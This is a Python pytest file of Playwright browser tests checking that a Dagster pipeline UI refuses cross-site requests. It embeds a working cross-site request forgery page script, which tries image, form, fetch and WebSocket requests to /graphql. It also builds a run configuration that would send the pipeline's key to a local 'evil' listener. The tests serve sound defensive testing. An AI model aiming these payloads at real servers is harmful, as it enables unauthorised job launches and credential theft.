"""RB-02, SECURITY.md: a page of another site, open in the operator's browser, launches and sends nothing.

Against Dagster as `deploy/` starts it, and against the demo's server, which `sonnys ui` shares; in Chromium, since what
counts is what a real browser sends along with the requests of such a page.
"""

import http.server
import json
import os
import signal
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from pathlib import Path
from urllib.parse import quote

import pytest
import requests
from playwright.sync_api import Page, Response

from sonnys_pipeline_tests.acceptance.conftest import free_port
from sonnys_pipeline_tests.support.browser.chromium import PATIENCE
from sonnys_pipeline_tests.support.browser.dagster_stack import LONGEST, Stack
from sonnys_pipeline_tests.support.processes.dagster_dev import LAUNCH
from sonnys_pipeline_tests.support.processes.preloaded import Preloaded

pytestmark = pytest.mark.browser

RUNS = "{ runsOrError { ... on Runs { results { runId } } } }"
PAGE = """<!doctype html><title>A harmless page</title><img id=image><iframe name=inside></iframe>
<form id=form method=post target=inside enctype=text/plain><input name=x></form><script>
async function attack(target, asked) {
  const told = {}
  const tried = async (name, what) => { try { told[name] = await what() } catch (error) { told[name] = "" + error } }
  const inAddress = target + "/graphql?query=" + encodeURIComponent(asked.query)
    + "&variables=" + encodeURIComponent(JSON.stringify(asked.variables))
  await tried("image", () => new Promise(done => {
    image.onload = () => done("shown"); image.onerror = () => done("error"); image.src = inAddress }))
  await tried("simple post", async () => (await fetch(inAddress, {method: "POST", mode: "no-cors"})).type)
  await tried("json as text", async () => (await fetch(target + "/graphql",
    {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"}, body: JSON.stringify(asked)})).type)
  await tried("json", async () => (await fetch(target + "/graphql",
    {method: "POST", headers: {"Content-Type": "application/json"}, body: JSON.stringify(asked)})).status)
  await tried("report", async () => (await fetch(target + "/report_asset_materialization/transactions",
    {method: "POST", mode: "no-cors", body: "{}"})).type)
  await tried("websocket", () => new Promise(done => {
    const socket = new WebSocket(target.replace("http", "ws") + "/graphql", "graphql-ws")
    socket.onopen = () => done("open"); socket.onerror = () => done("error") }))
  form.action = inAddress; form.submit()
  await new Promise(done => setTimeout(done, 1000))
  return told
}</script>"""


@contextmanager
def listening(body: str = "") -> Iterator[tuple[int, list[str]]]:
    """A server of somebody else's, and the headers of each request that it gets."""
    heard: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def answer(self) -> None:
            heard.append(str(self.headers))
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(body.encode())

        do_GET = do_POST = answer  # noqa: N815 - names that the standard library calls

        def log_message(self, *args: object) -> None:
            """Nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_port, heard
        server.shutdown()


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory, preloaded: Preloaded) -> Iterator[str]:
    """The address of the demo's UI."""
    folder, port = tmp_path_factory.mktemp("demo"), free_port()
    command = ["-m", "sonnys_pipeline.cli", "demo", "--ui", "--port", str(port), "--folder", str(folder)]
    with (folder / "log").open("wb") as log:
        process = preloaded.start(command, None, folder, log.fileno(), log.fileno())
    url, deadline = f"http://127.0.0.1:{port}", time.monotonic() + LONGEST
    try:
        while True:
            with suppress(requests.ConnectionError):
                if requests.get(f"{url}/server_info", timeout=PATIENCE).ok:
                    break
            assert process.poll() is None, (folder / "log").read_text()
            assert time.monotonic() < deadline, (folder / "log").read_text()
            time.sleep(0.2)
        yield url
        process.send_signal(signal.SIGINT)
        assert process.wait(PATIENCE) == 0, (folder / "log").read_text()  # Ctrl-C is how it is ended, and no error
    finally:
        with suppress(ProcessLookupError):
            os.killpg(process.pid, signal.SIGKILL)


@pytest.fixture(params=["deploy", "demo"])
def target(request: pytest.FixtureRequest) -> str:
    """The address of a server that is to be attacked."""
    if request.param == "demo":
        return str(request.getfixturevalue("demo"))
    stack: Stack = request.getfixturevalue("stack")
    return stack.url


def launch(base_url: str, data_url: str) -> dict[str, object]:
    """A run of `sites` that would send the key to another server, and land in another folder."""
    config = {
        "sonnys": {"config": {"base_url": base_url}},
        "lake": {"config": {"data_url": data_url}},
    }
    selector = {
        "jobName": "__ASSET_JOB", "repositoryName": "__repository__",
        "repositoryLocationName": "sonnys_pipeline.definitions", "assetSelection": [{"path": ["sites"]}],
    }  # fmt: skip
    params = {"selector": selector, "runConfigData": json.dumps({"resources": config}), "executionMetadata": {}}
    return {"query": LAUNCH, "variables": {"params": params}}


def runs(url: str) -> list[object]:
    """What has been launched."""
    answer = requests.post(f"{url}/graphql", json={"query": RUNS}, timeout=PATIENCE).json()
    return answer["data"]["runsOrError"]["results"]


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost"])
def test_a_foreign_page_launches_nothing(
    target: str, name: str, open_view: Callable[..., Page], tmp_path: Path
) -> None:
    """By image, form, fetch and websocket, from another site and from another port of the same one: all refused."""
    attacked = target.replace("127.0.0.1", name)  # the page is on localhost: cross-site to one, same-site to the other
    answers: list[Response] = []
    with listening() as (evil, heard), listening(PAGE) as (harmless, _):
        page = open_view()
        port = attacked.rpartition(":")[2]
        page.on("response", lambda found: answers.append(found) if f":{port}/" in found.url else None)
        page.goto(f"http://localhost:{harmless}/")
        asked = launch(f"http://127.0.0.1:{evil}/v1", str(tmp_path / "chosen"))
        told = page.evaluate("([target, asked]) => attack(target, asked)", [attacked, asked])
        time.sleep(2)  # a run that was launched would show, however late it begins

    assert runs(target) == []
    assert heard == []
    assert not (tmp_path / "chosen").exists()
    assert told["image"] == told["websocket"] == "error", told
    assert {answer.status for answer in answers} == {403}, [(answer.url, answer.status) for answer in answers]
    assert len(answers) >= 4  # they did arrive


def test_a_link_to_the_ui_works(target: str, open_view: Callable[..., Page]) -> None:
    """From a page of another site, as from a chat: the UI opens and shows its assets."""
    with listening(f"<a href='{target}/assets'>the UI</a>") as (chat, _):
        page = open_view()
        page.goto(f"http://localhost:{chat}/")
        page.get_by_role("link").click()

        # The first of the list; what is further down is not drawn.
        page.get_by_text("clock_entries", exact=True).first.wait_for()


def test_a_run_that_says_where_credentials_travel_is_refused(target: str, tmp_path: Path) -> None:
    """Asked by a program that may ask: Dagster itself refuses the configuration, by the names of both fields."""
    with listening() as (evil, heard):
        asked = launch(f"http://127.0.0.1:{evil}/v1", str(tmp_path / "chosen"))
        answer = requests.post(f"{target}/graphql", json=asked, timeout=PATIENCE).json()

    (launched,) = answer["data"].values()
    assert launched["__typename"] == "RunConfigValidationInvalid", answer
    assert runs(target) == []
    assert heard == []


def test_a_get_with_a_mutation_is_refused(target: str) -> None:
    """Whoever sends it: it is what an image sends."""
    query = quote("mutation { x }")

    assert requests.get(f"{target}/graphql?query={query}", timeout=PATIENCE).status_code == 403
